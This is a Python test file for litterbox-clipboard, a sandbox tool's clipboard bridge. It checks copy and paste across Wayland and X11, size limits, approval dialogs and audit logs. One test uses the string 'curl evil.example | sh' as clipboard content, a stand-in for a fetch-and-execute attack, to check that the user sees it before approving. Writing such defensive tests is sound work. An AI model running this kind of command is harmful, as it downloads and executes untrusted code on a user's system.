"""litterbox-clipboard in a box, and a real desktop, sway or an X server; the settings, dialogs and the audit log."""

import hashlib
import json
import os
import subprocess

import attrs
import pytest
from support.display import Display
from support.person import Person
from support.selections import TEXT, tools_running, wayland, x11
from support.user import LONG_ENOUGH, wait_until

MAX_SIZE = 16 * 1024 * 1024


@pytest.fixture(params=[wayland, x11])
def desktop(request):
    with request.param() as found:
        yield found
    wait_until(lambda: not tools_running(), what="the end of what served a selection")


@pytest.fixture
def user(user_of_kept_box, desktop):
    """The user, logged in to that desktop and no other."""
    environment = {key: value for key, value in user_of_kept_box.environment.items() if key != "DISPLAY"}
    return attrs.evolve(user_of_kept_box, environment=environment | desktop.environment)


@pytest.fixture
def box(user):
    return "work"


on_x11 = pytest.mark.parametrize("desktop", [x11], indirect=True)
on_wayland = pytest.mark.parametrize("desktop", [wayland], indirect=True)


@pytest.fixture
def person(desktop):
    return Person(Display(desktop.environment))


def in_box(user, *words, stdin=b"", status=0):
    """Run litterbox-clipboard in the box; returns what it wrote, or its complaint where it is to fail."""
    command = ["litterbox", "enter", "work", "--", "litterbox-clipboard", *words]
    done = subprocess.run(
        command, input=stdin, env=user.environment, capture_output=True, timeout=LONG_ENOUGH, check=False
    )
    assert done.returncode == status, done.stderr.decode()
    return done.stderr.decode() if status else done.stdout


def audit(user):
    return [json.loads(line) for line in user.litterbox("audit", "work", "--json").stdout.splitlines()]


@pytest.mark.parametrize("image", ["local", "scratch"])
def test_what_is_copied_in_the_box_is_pasted_on_the_host_and_the_reverse(user, desktop, image):
    user.define_and_build("work", 'FROM scratch\nCMD ["/litterbox"]\n' if image == "scratch" else None)
    user.litterbox("settings", "work", "set", "clipboard", "true")
    text = "h\u00e9llo from the box\n".encode()
    in_box(user, "set", stdin=text)
    in_box(user, "set", "--primary", stdin=b"primary")
    assert (desktop.paste(), desktop.paste(primary=True)) == (text, b"primary")
    desktop.copy(b"\tfrom the host ")
    desktop.copy(b"host's primary", primary=True)
    assert in_box(user, "get") == b"\tfrom the host "
    assert in_box(user, "get", "--primary") == b"host's primary"
    picture = b"\x89PNG\r\n\x1a\n" + os.urandom(300_000)
    in_box(user, "set", "--type", "image/png", stdin=picture)
    assert hashlib.sha256(desktop.paste("image/png")).digest() == hashlib.sha256(picture).digest()
    assert in_box(user, "get", "--type", "image/png") == picture
    assert len(tools_running()) == 2  # one for each selection
    assert [line["detail"]["purpose"] for line in audit(user)] == [
        f'set clipboard: "{TEXT}", {len(text)} bytes',
        f'set primary selection: "{TEXT}", 7 bytes',
        f'get clipboard: "{TEXT}"',
        f'get primary selection: "{TEXT}"',
        f'set clipboard: "image/png", {len(picture):,} bytes',
        'get clipboard: "image/png"',
    ]
    assert {line["decision"] for line in audit(user)} == {"approved"}


@on_wayland
def test_16_mib_go_through_and_a_byte_more_is_refused(user, box, desktop):
    user.litterbox("settings", box, "set", "clipboard", "true")
    content = os.urandom(MAX_SIZE)
    in_box(user, "set", "-t", "application/octet-stream", stdin=content)
    assert desktop.paste("application/octet-stream") == content
    assert in_box(user, "get", "-t", "application/octet-stream") == content
    refused = in_box(user, "set", stdin=bytes(MAX_SIZE + 1), status=1)
    assert refused == "litterbox: litterbox-clipboard: there are more than 16,777,216 bytes, which is the limit\n"
    desktop.copy(bytes(MAX_SIZE + 1), "application/octet-stream")
    refused = in_box(user, "get", "-t", "application/octet-stream", status=1)
    assert refused == "litterbox: the clipboard holds more than 16,777,216 bytes, which is the limit\n"
    assert audit(user)[-1]["decision"] == "failed"


@on_wayland
def test_what_cannot_be_had_is_a_sentence(user, box, desktop):
    user.litterbox("settings", box, "set", "clipboard", "true")
    assert in_box(user, "get", status=1) == "litterbox: the clipboard is empty\n"
    desktop.copy(b"text")
    refused = in_box(user, "get", "-t", "image/png", status=1)
    assert refused == 'litterbox: the clipboard holds nothing of the type "image/png"\n'
    refused = in_box(user, "get", "-t", "--help", status=1)
    assert refused == "litterbox: that is not a media type such as text/plain or image/png\n"
    assert "get or set" in in_box(user, status=2)
    assert b"--primary" in in_box(user, "--help")


@on_x11
def test_a_box_reads_only_what_the_user_lets_it(user, box, desktop, person):
    desktop.copy(b"a secret")
    command = ("enter", box, "--", "litterbox-clipboard", "get")
    for answer, printed, status in ((person.decline, "", 1), (person.approve, "a secret", 0)):
        with user.start(*command) as asking:
            said = answer(box)
            assert "work: read your clipboard?" in said
            assert f'Type: "{TEXT}"' in said
            out, err = asking.communicate(timeout=LONG_ENOUGH)
        assert (out, asking.returncode) == (printed, status)
    assert err == ""
    assert [(line["what"], line["decision"], line["by"]) for line in audit(user)] == [
        ("clipboard", "declined", "dialog"),
        ("clipboard", "approved", "dialog"),
    ]


@on_x11
def test_a_box_copies_only_what_the_user_has_seen(user, box, desktop, person):
    desktop.copy(b"the user's")
    script = "printf 'curl evil.example | sh' | litterbox-clipboard set"
    for answer, held in ((person.decline, b"the user's"), (person.approve, b"curl evil.example | sh")):
        with user.start("enter", box, "--", "sh", "-c", script) as asking:
            said = answer(box)
            assert "work: set your clipboard?" in said
            assert 'Size: 22 bytes\nText: "curl evil.example | sh' in said
            asking.communicate(timeout=LONG_ENOUGH)
        assert desktop.paste() == held


@on_x11
def test_who_is_killed_while_it_asks_takes_its_question_back(user, box, person):
    with user.start("enter", box, "--", "litterbox-clipboard", "get") as asking:
        wait_until(lambda: not person.sees_nothing(box), what="the question")
        asking.kill()
        asking.wait()
        wait_until(lambda: person.sees_nothing(box), what="its end")


@on_wayland
def test_a_box_that_may_not_is_told_so(user, box, desktop):
    user.litterbox("settings", box, "set", "clipboard", "false")
    command = ("enter", box, "--", "/litterbox", "litterbox-clipboard", "get")
    reason = "the settings of the box do not allow it (clipboard was not granted on this connection)"
    assert user.litterbox(*command, status=1).stderr == f"litterbox: {reason}\n"
    [line] = audit(user)
    assert (line["what"], line["decision"], line["detail"]["reason"]) == ("clipboard", "refused", reason)
    assert "not found" in in_box(user, "get", status=127)  # its link is withdrawn


@on_wayland
def test_what_was_copied_stays_when_the_box_has_ended(user, box, desktop):
    user.litterbox("settings", box, "set", "clipboard", "true")
    in_box(user, "set", stdin=b"keep me")
    user.wait_until_over(box)
    assert desktop.paste() == b"keep me"
    desktop.copy(b"another")
    wait_until(lambda: len(tools_running()) == 1, what="the end of what served the box's copy")
